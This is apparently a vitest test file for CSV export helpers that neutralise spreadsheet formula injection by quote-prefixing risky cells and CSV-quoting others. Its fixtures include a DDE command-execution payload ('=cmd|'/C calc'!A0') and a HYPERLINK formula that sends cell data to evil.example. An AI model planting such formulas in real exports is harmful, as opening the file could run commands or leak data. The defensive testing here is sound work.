import { describe, expect, it } from "vitest";
import { csvCell, csvLine, neutraliseCsvCell } from "./csv";

describe("neutraliseCsvCell", () => {
  it.each([
    ["=1+2", "'=1+2"],
    ["+1+2", "'+1+2"],
    ["-1+2", "'-1+2"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ["\uFF1D1+2", "'\uFF1D1+2"],
    ["＝HYPERLINK(A1)", "'＝HYPERLINK(A1)"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
  ])("prefixes %j with a single quote", (text, want) => {
    expect(neutraliseCsvCell(text)).toBe(want);
  });

  it.each([
    "Yamada Taro",
    "山田 太郎",
    "a=b",
    "1-2",
    "a＝b",
    "１－２",
    "",
    "'=already quoted",
    "2024/05/01 08:00",
  ])("leaves %j alone", (text) => {
    expect(neutraliseCsvCell(text)).toBe(text);
  });

  it("treats a negative number written as text like any text", () => {
    expect(neutraliseCsvCell("-12.5")).toBe("'-12.5");
  });
});

describe("csvCell and csvLine", () => {
  it("writes numbers as they are, negative ones included", () => {
    expect(csvCell(-12.5)).toBe("-12.5");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(null)).toBe("");
  });

  it("neutralises, then quotes a cell with a quote, comma or line break", () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Click me")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"`,
    );
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
    expect(csvCell("＝1,2")).toBe(`"'＝1,2"`);
  });

  it("ends a record with CRLF", () => {
    expect(csvLine(["name", "-3", -3, null])).toBe("name,'-3,-3,\r\n");
  });
});
